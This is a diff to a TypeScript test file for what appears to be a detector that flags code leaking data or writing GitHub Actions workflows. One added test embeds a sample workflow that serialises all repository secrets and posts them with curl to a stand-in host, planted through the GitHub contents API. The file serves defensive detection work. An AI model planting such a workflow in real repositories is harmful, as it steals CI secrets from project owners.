@@ -1,5 +1,5 @@
 import assert from 'node:assert/strict';
-import { flowsOf } from './sent.js';
+import { behavioursOf, flowsOf } from './sent.js';
 
 const GIVEN_AWAY: Readonly<Record<string, string>> = {
   [`const { Octokit } = require('@octokit/rest'); new Octokit({ auth: 'x' }).gists.create({ files: { a: { content: s } } });`]:
@@ -36,6 +36,21 @@ describe('clients of services', () => {
       assert.deepEqual(flowsOf(listen.replace('RUN', 'console.log')), []);
     });
   }
+
+  it('are handed workflows that a build server will run', () => {
+    const text = 'env: { S: "${{ toJSON(secrets) }}" }\\nrun: curl -d "$S" https://collect.invalid';
+    const put = (path: string, content: string): readonly string[] =>
+      behavioursOf(`const { Octokit } = require('@octokit/rest'); const api = new Octokit({ auth: 'x' });
+        api.repos.createOrUpdateFileContents({ owner: 'a', repo: 'b', path: '${path}', content: Buffer.from('${content}').toString('base64') });`);
+    assert.deepEqual(put('.github/workflows/a.yml', text), ['workflow-written import', 'workflow-secrets import']);
+    assert.deepEqual(put('.github/workflows/a.yml', 'run: npm test'), ['workflow-written import']);
+    assert.deepEqual(put('docs/a.yml', text), []);
+    const fetched = `fetch('https://api.github.com/repos/a/b/contents/.github/workflows/a.yml'`;
+    assert.deepEqual(behavioursOf(`${fetched}, { method: 'PUT', body: { content: 'cnVu' } });`), [
+      'workflow-written import',
+    ]);
+    assert.deepEqual(behavioursOf(`${fetched});`), []);
+  });
 
   it('are given nothing by being made or asked', () => {
     const code = `const { Octokit } = require('@octokit/rest'); const o = new Octokit({}); o.repos.listForUser({ username: s.length });`;
